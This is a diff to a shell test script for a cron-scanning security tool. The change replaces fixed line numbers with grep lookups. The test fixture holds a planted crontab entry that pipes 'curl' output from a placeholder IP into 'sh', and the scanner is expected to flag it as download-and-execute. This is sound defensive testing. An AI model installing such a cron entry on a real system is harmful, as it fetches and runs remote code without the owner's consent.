@@ -50,6 +50,11 @@ MAILTO=""
 0 * * * * curl -fsSL http://198.51.100.7/x.sh | sh
 EOF
 
+# crontab(1) may prepend a "DO NOT EDIT" header: the lines as on disk
+wline=$(grep -n "run.sh" "/var/spool/cron/crontabs/$WEB" | cut -d: -f1)
+aline=$(grep -n "curl" "/var/spool/cron/crontabs/$ALICE" | cut -d: -f1)
+bline=$(grep -n "wp-cron" "/var/spool/cron/crontabs/$ALICE" | cut -d: -f1)
+
 hs --config "$D/hs.conf" --format json cron
 check "exit status 1" test "$RC" = 1
 check "JSON lines" json_valid "$OUT"
@@ -57,7 +62,7 @@ q() { jq_py "$OUT" "$1"; }
 W="[f for f in F if f['kind']=='cron' and f['crontab']=='/var/spool/cron/crontabs/$WEB']"
 if [ "$(q "len($W)")" = 1 ]; then
 	ok "web user's entry flagged"
-	check "web entry: line 1" test "$(q "$W[0]['line']")" = 1
+	check "web entry: line $wline" test "$(q "$W[0]['line']")" = "$wline"
 	check "web entry: schedule" test "$(q "$W[0]['schedule']")" = "*/10 * * * *"
 	check "web entry: every 10 minutes" test "$(q "$W[0]['period_minutes']")" = 10
 	check "web entry: user" test "$(q "$W[0]['user']")" = "$WEB"
@@ -75,10 +80,10 @@ else
 fi
 A="[f for f in F if f['kind']=='cron' and f['crontab']=='/var/spool/cron/crontabs/$ALICE']"
 check "customer: exactly one entry flagged" test "$(q "len($A)")" = 1
-check "customer: the curl | sh entry, line 4" test "$(q "$A[0]['line']")" = 4
+check "customer: the curl | sh entry, line $aline" test "$(q "$A[0]['line']")" = "$aline"
 check "customer: download_exec" test "$(q "'download_exec' in $A[0]['reasons']")" = True
 check "customer: account" test "$(q "$A[0]['account']")" = "$ALICE"
-check "customer: wp-cron (line 3) not flagged" test "$(q "[f for f in $A if f['line']==3]")" = "[]"
+check "customer: wp-cron (line $bline) not flagged" test "$(q "[f for f in $A if f['line']==$bline]")" = "[]"
 check "summary: entries counted" test "$(q "S['cron']['entries'] >= 3")" = True
 
 # text output
